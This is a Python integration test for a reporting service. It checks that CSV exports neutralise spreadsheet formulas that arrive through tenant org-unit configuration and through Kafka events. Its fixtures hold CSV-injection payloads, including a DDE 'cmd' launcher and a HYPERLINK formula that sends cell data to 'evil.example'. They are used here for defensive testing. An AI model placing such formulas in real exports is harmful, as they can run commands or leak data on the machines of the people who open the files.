"""CSV injection: text that a spreadsheet would run as a formula reaches the CSVs from the
tenant's org-unit configuration and from events on the topics; every CSV answer shows it
as text. Real Kafka and PostgreSQL; the CSV is read through HTTP."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest
from pydantic import ValidationError

from qaf_shared.enums import FeedbackSource
from qaf_shared.events.audit import AuditSubmitted
from qaf_shared.events.catalogue import AUDIT_TOPIC
from qaf_shared.events.envelope import CloudEvent, kafka_value
from qaf_shared.events.feedback import FeedbackReceived
from qaf_shared.events.payloads import OrgUnitRef
from qaf_shared.org_units import OrgUnitDirectory
from qaf_shared.testing.fixtures import auth, eventually, serve
from qaf_shared.testing.kafka import Record, as_published, produce
from reporting_service.main import create_app

from ..feed import Own, audit_submitted, event, settings_for

TENANT = "901"
# An org-unit tree whose codes a spreadsheet would evaluate, as a tenant's YAML might hold.
ORG_UNITS = """
tenant: "901"
name: "=cmd|' /C calc'!A0"
areas:
  - code: "=AREA"
    districts:
      - code: "+DISTRICT"
        teams: ["@TEAM", "-TEAM"]
services: ["\\tSERVICE", "\\rSERVICE"]
"""
AREA, DISTRICT, TEAM = "=AREA", "+DISTRICT", "@TEAM"
# A conference question id: the event model takes any text as an answers key.
QUESTION = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
QUARTER = "FY2025Q1"


def feedback_event() -> CloudEvent:
    feedback_id = uuid.uuid4()
    data = FeedbackReceived(
        feedback_id=feedback_id,
        org_unit=OrgUnitRef(area=AREA, district=DISTRICT, team=TEAM),
        source=FeedbackSource.CP_CONFERENCE,
        received_on=date(2025, 5, 14),
        # -3 is no valid answer, but the event model takes any int: it puts a negative
        # figure (a mean of -3) into the CSV, which must stay a number.
        answers={QUESTION: 4, "felt_listened_to": -3},
    )
    return event(data, feedback_id, TENANT)


def audit_with_formula_theme() -> bytes:
    """An audit whose theme is a formula: themes are an enum, so the event is refused."""
    event = audit_submitted(
        TENANT, unit=OrgUnitRef(area=AREA, district=DISTRICT, team=TEAM), on=date(2025, 5, 14)
    ).to_json()
    event["data"]["themes"] = ["=1+1"]
    with pytest.raises(ValidationError):
        AuditSubmitted.model_validate(event["data"])
    return kafka_value(CloudEvent.model_validate(event).to_json())


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def test_formula_text_from_configuration_and_from_events_is_neutralised_in_every_csv(
    own: Own,
    token: Callable[..., str],
    tmp_path: Path,
) -> None:
    dsn, prefix = own
    (tmp_path / f"{TENANT}.yaml").write_text(ORG_UNITS)
    event = feedback_event()
    await produce(
        [
            as_published(prefix, event),
            Record(prefix + AUDIT_TOPIC, b"a", audit_with_formula_theme()),
        ]
    )
    app = create_app(settings_for(dsn, prefix, "csv"))
    app.state.org_units = OrgUnitDirectory(tmp_path)  # the tenant's configuration
    headers = auth(token("reports:read_unsuppressed", tenant=TENANT))
    async with serve(app) as client:

        async def consumed() -> bool:
            body = (await client.get("/v1/status", headers=headers)).json()
            applied = body["topics"]["qa.feedback.events.v1"]["applied"]
            return bool(applied == 1 and body["dead_letters"] == 1)

        # The feedback applies; the audit with a formula theme is refused as a dead letter.
        await eventually(consumed, timeout=30)
        aggregates = await client.get(f"/v1/aggregates/{QUARTER}.csv", headers=headers)
        deep_dive = await client.get(
            f"/v1/deep-dives/{QUARTER}", headers={**headers, "Accept": "text/csv"}
        )
        as_json = (await client.get(f"/v1/aggregates/{QUARTER}", headers=headers)).json()
    assert aggregates.status_code == deep_dive.status_code == 200
    assert aggregates.headers["content-type"].startswith("text/csv")
    rows = read_csv(aggregates.text)
    dive = read_csv(deep_dive.text)

    # Configuration: every unit code is text behind a quote.
    units = {(r["unit_kind"], r["unit"]) for r in rows}
    assert {
        ("area", "'=AREA"),
        ("district", "'+DISTRICT"),
        ("team", "'@TEAM"),
        ("team", "'-TEAM"),
        ("service", "'\tSERVICE"),
        ("service", "'\rSERVICE"),
    } <= units
    assert ("area", "'=AREA") in {(r["unit_kind"], r["unit"]) for r in dive}

    # The event: the question id is text behind a quote; the figures are the JSON's.
    means = [
        r
        for r in rows
        if r["measure"] == "feedback.conference_question_means" and r["unit"] == "'=AREA"
    ]
    by_question = {r["dimension"]: r["value"] for r in means}
    assert set(by_question) == {"'" + QUESTION, "felt_listened_to"}
    json_means = {
        r["dimension"]: r["value"]
        for r in as_json["rows"]
        if r["measure"] == "feedback.conference_question_means" and r["unit"] == AREA
    }
    assert by_question["'" + QUESTION] == str(json_means[QUESTION])
    # A negative figure stays a number: no quote, and it reads back as the JSON's number.
    negative = by_question["felt_listened_to"]
    assert float(negative) == json_means["felt_listened_to"] < 0
    assert ("'" + QUESTION) in {r["dimension"] for r in dive}

    # Nowhere in either CSV does a cell start a formula (a number with a minus sign aside).
    for row in rows + dive:
        for cell in row.values():
            if cell.startswith(FORMULA_START):
                float(cell)  # raises unless it is a number
    # The refused theme reached no CSV.
    assert "=1+1" not in aggregates.text and "=1+1" not in deep_dive.text
